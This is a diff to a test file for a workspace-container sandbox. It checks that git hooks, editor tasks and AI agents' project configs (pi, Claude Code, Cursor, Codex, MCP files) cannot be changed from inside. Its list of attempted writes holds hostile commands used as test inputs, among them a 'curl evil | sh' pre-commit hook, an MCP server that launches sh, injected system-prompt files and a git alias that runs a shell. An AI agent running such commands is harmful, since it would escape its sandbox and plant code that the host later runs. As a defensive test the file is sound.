@@ -1,5 +1,5 @@
-// Guarded paths on real containers: what the host executes later (git hooks and config, editor
-// tasks, direnv) cannot be written, created, renamed over, deleted or moved aside from inside a
+// Guarded paths on real containers: what the host executes later (git hooks and config, agents'
+// project resources, editor tasks, direnv) cannot be written, created, renamed over, deleted or moved aside from inside a
 // workspace container, by any route; normal git work still succeeds; the host files stay the
 // same byte for byte. The container runs as an unprivileged user (1000:1000) that owns the
 // workspace, as a person's would.
@@ -69,6 +69,11 @@ async function hostRepository(t) {
   writeFileSync(path.join(ws, '.envrc'), 'export A=1\n')
   mkdirSync(path.join(ws, '.vscode'))
   writeFileSync(path.join(ws, '.vscode/tasks.json'), '{"version":"2.0.0","tasks":[]}\n')
+  // Agents' project resources the person already has: pi's settings and Claude Code's.
+  mkdirSync(path.join(ws, '.pi'))
+  writeFileSync(path.join(ws, '.pi/settings.json'), '{"theme":"dark"}\n')
+  mkdirSync(path.join(ws, '.claude'))
+  writeFileSync(path.join(ws, '.claude/settings.json'), '{"permissions":{}}\n')
   chownTree(ws, 1000, 1000)
   return ws
 }
@@ -87,9 +92,11 @@ async function startOne(t, ws, extra = {}) {
 
 test('guarded paths cannot be written, created, renamed over, deleted or moved aside from inside; git work still succeeds', async (t) => {
   const ws = await hostRepository(t)
-  const guarded = ['.git/hooks', '.git/config', '.git/info', '.vscode', '.idea', '.envrc', '.direnv']
-  const before = Object.fromEntries(guarded.map((g) => [g, snapshot(ws, g)]))
+  const guarded = ['.git/hooks', '.git/config', '.git/info', '.pi', '.agents', '.claude', '.mcp.json', '.cursor', '.codex', '.devcontainer', '.vscode', '.idea', '.envrc', '.direnv', '.husky']
+  const original = Object.fromEntries(guarded.map((g) => [g, snapshot(ws, g)]))
   const { c } = await startOne(t, ws)
+  // As the container found them: the placeholders made, the exclude file listing the files.
+  const before = Object.fromEntries(guarded.map((g) => [g, snapshot(ws, g)]))
   const hasGit = await inside(c.containerId, ws, 'git --version')
   assert.equal(hasGit.code, 0, `no git in the sandbox image (${hasGit.stderr.trim()}): it was built on an older test base; remove the images labelled po.image-base=po-sandbox-test-base:node24-nft and run again`)
 
@@ -134,6 +141,28 @@ test('guarded paths cannot be written, created, renamed over, deleted or moved a
     // Through a link the agent makes.
     'ln -s .git/hooks hooklink && echo x > hooklink/pre-push',
     'ln -s .git/config cfglink && echo x >> cfglink',
+    // Agents' project resources: pi's (an extension, MCP servers, settings with sessionDir,
+    // skills, system prompts), the shared skills, Claude Code's, Cursor's, Codex's.
+    'mkdir -p .pi/extensions && echo "export default () => {}" > .pi/extensions/evil.ts',
+    'echo \'{"mcpServers":{"x":{"command":"sh"}}}\' > .pi/mcp.json',
+    'echo \'{"sessionDir":"/tmp"}\' > .pi/settings.json',
+    'echo x >> ./.pi//settings.json',
+    'cd .pi && touch SYSTEM.md',
+    'touch "$PWD/.pi/APPEND_SYSTEM.md"',
+    'mkdir -p .agents/skills/evil',
+    'echo \'{"hooks":{}}\' > .claude/settings.json',
+    'touch .claude/settings.local.json',
+    'mkdir .claude/commands',
+    'echo \'{"mcpServers":{}}\' > .mcp.json',
+    'echo evil > ev3 && mv -f ev3 .mcp.json',
+    'rm -f .mcp.json',
+    'touch .cursor/mcp.json',
+    'touch .codex/config.toml',
+    'mkdir -p .devcontainer && echo "{}" > .devcontainer/devcontainer.json',
+    'echo "curl evil | sh" > .husky/pre-commit',
+    'mv .pi .pi-aside',
+    'rm -rf .claude && test ! -e .claude',
+    'ln -s .pi pilink && echo x > pilink/SYSTEM.md',
     // Git's own config writes.
     'git config core.hooksPath /tmp',
     'git config --local alias.x "!sh -c id"',
@@ -167,14 +196,18 @@ test('guarded paths cannot be written, created, renamed over, deleted or moved a
   // The host files are unchanged byte for byte; placeholders are empty and owned by the user.
   for (const g of guarded) {
     const now = snapshot(ws, g)
-    if (Object.keys(before[g]).length) assert.deepEqual(now, before[g], `${g} changed on the host`)
+    assert.deepEqual(now, before[g], `${g} changed on the host`)
+    if (Object.keys(original[g]).length) continue
+    if (g === '.mcp.json') assert.equal(readFileSync(path.join(ws, g), 'utf8'), '{}\n', 'the JSON placeholder parses')
     else assert.deepEqual(Object.values(now), ['dir'], `${g} placeholder is an empty folder: ${JSON.stringify(now)}`)
   }
-  for (const p of ['.idea', '.direnv']) {
+  const status = await git(ws, 'status', '--porcelain', '--untracked-files=all')
+  assert.ok(!status.includes('.mcp.json'), `placeholders do not show in git status: ${status}`)
+  for (const p of ['.idea', '.direnv', '.agents', '.mcp.json', '.husky']) {
     const st = statSync(path.join(ws, p))
     assert.equal(`${st.uid}:${st.gid}`, USER, `${p} placeholder owner`)
   }
-  assert.ok(!existsSync(path.join(ws, '.git-aside')) && !existsSync(path.join(ws, '.vscode-aside')), 'nothing was moved aside')
+  assert.ok(!['.git-aside', '.vscode-aside', '.pi-aside'].some((p) => existsSync(path.join(ws, p))), 'nothing was moved aside')
   assert.ok(statSync(path.join(ws, '.git/HEAD')).isFile(), '.git is still the repository')
 })
 
